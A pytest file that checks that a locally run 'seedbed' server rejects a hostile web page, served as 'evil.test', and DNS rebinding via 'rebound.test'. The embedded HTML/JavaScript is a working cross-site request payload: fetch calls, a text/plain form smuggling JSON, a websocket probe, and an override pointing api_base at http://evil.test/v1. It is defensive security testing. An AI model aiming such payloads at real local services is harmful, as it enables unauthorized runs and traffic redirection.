"""A web page of somebody else, open in the browser of a user whose server runs: it starts nothing and reads nothing."""

from __future__ import annotations

import json
import re
import threading
from collections.abc import Iterator
from html import unescape
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from seedbed.local import server
from tests.browser.conftest import Dom
from tests.support.lab import Lab, call
from tests.support.sweeps import OFFLINE

# Both names lead to this machine, as a name of an attacker's own domain can.
NAMES = "--host-resolver-rules=MAP evil.test 127.0.0.1, MAP rebound.test 127.0.0.1"
PAGE = """<!doctype html><pre id="told"></pre><form id="form" method="post" enctype="text/plain" target="hidden"
action="API/deployments/DEPLOYMENT/create_flow_run"><input name='{"state":{"type":"SCHEDULED"},"x":"' value='"}'></form>
<iframe name="hidden"></iframe><iframe id="frame" src="UI/flow-runs"></iframe><script>
const run = JSON.stringify({state: {type: "SCHEDULED"}, parameters: {request: {config: "tryout.yaml",
  overrides: ["models.reader.api_base=http://evil.test/v1"]}}});
const json = {"content-type": "application/json"};
const tries = {
  start: () => fetch("API/deployments/DEPLOYMENT/create_flow_run", {method: "POST", headers: json, body: run}),
  blind: () => fetch("API/deployments/DEPLOYMENT/create_flow_run", {method: "POST", mode: "no-cors", body: run}),
  list: () => fetch("API/deployments/filter", {method: "POST", headers: json, body: "{}"}),
  settings: () => fetch("API/admin/settings"),
  health: () => fetch("API/health"),
  login: () => fetch("UI/seedbed/login", {method: "POST", body: "x"}),
  proof: () => fetch("UI/seedbed/proof?nonce=1"),
};
const socket = () => new Promise(end => {
  const made = new WebSocket("API/events/out".replace("http", "ws"), ["prefect"]);
  made.onopen = () => end("open"); made.onerror = () => end("refused");
});
(async () => {
  const told = {socket: await socket()};
  for (const [name, attempt] of Object.entries(tries))
    try { const reply = await attempt(); told[name] = reply.type === "opaque" ? "blind" : await reply.text(); }
    catch { told[name] = "refused"; }
  document.getElementById("form").submit();
  document.getElementById("told").textContent = JSON.stringify(told);
})();
</script>"""


class _Page(BaseHTTPRequestHandler):
    text = ""

    def do_GET(self) -> None:
        body = self.text.encode()
        self.send_response(200)
        self.send_header("content-type", "text/html")
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        return


@pytest.fixture(scope="module")
def lab(seedbed_home: Path, tmp_path_factory: pytest.TempPathFactory) -> Lab:
    folder = tmp_path_factory.mktemp("lab")
    (folder / "tryout.yaml").write_text(OFFLINE, encoding="utf-8")
    made = Lab(folder, "tryout.yaml", "foreign")
    made.deploy()
    return made


@pytest.fixture(scope="module")
def profile(lab: Lab, dom: Dom, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A browser that `seedbed ui` has let in."""
    folder = tmp_path_factory.mktemp("profile")
    shown = lab.seedbed("ui", "--no-open")
    dom(shown.stdout.splitlines()[0], profile=folder)
    return folder


@pytest.fixture
def foreign(lab: Lab) -> Iterator[str]:
    """The address of the page."""
    deployment = call("GET", "/deployments/name/launch-sweep/sweep")["id"]
    found = server.start()
    _Page.text = PAGE.replace("API", found.api).replace("UI", found.ui).replace("DEPLOYMENT", deployment)
    serving = ThreadingHTTPServer(("127.0.0.1", 0), _Page)
    threading.Thread(target=serving.serve_forever, daemon=True).start()
    yield f"http://evil.test:{serving.server_port}/"
    serving.shutdown()


def _told(page: str) -> dict[str, Any]:
    found = re.search(r'<pre id="told">(.*?)</pre>', page, re.DOTALL)
    assert found is not None
    return json.loads(unescape(found.group(1)))


def _runs() -> int:
    """Those somebody asked for; the schedule has its own."""
    found = call("POST", "/flow_runs/filter", {"limit": 200})
    return sum(not run["auto_scheduled"] for run in found)


def test_a_foreign_page_starts_no_run_and_reads_nothing(dom: Dom, foreign: str, profile: Path) -> None:
    before = _runs()
    told = _told(dom(foreign, "", NAMES, profile=profile))
    # The browser sends what a page asks for without wanting to see the answer; the server must refuse it.
    assert told.pop("blind") in ("blind", "refused")
    assert set(told.values()) == {"refused"}, told
    assert _runs() == before


@pytest.mark.parametrize("path", ["/api/admin/version", "/"])
def test_a_foreign_name_for_this_machine_is_no_name_of_the_server(dom: Dom, profile: Path, lab: Lab, path: str) -> None:
    port = server.start().port
    page = dom(f"http://rebound.test:{port}{path}", "", NAMES, profile=profile)
    assert "answers to no other name" in page


def test_the_ui_works_in_a_browser_that_was_let_in(dom: Dom, profile: Path) -> None:
    page = dom(f"{server.start().ui}/v2/deployments", profile=profile)
    assert "nightly" in page
    assert "Unauthorized" not in page


def test_a_browser_that_was_not_let_in_is_asked_for_the_auth_string(dom: Dom, lab: Lab) -> None:
    page = dom(f"{server.start().ui}/v2/deployments")
    assert "nightly" not in page
    assert "Login" in page


def test_a_link_lets_in_once(dom: Dom, lab: Lab, tmp_path: Path) -> None:
    link = lab.seedbed("ui", "--no-open").stdout.splitlines()[0]
    dom(link, profile=tmp_path / "first")
    assert "was used before" in dom(link, profile=tmp_path / "second")
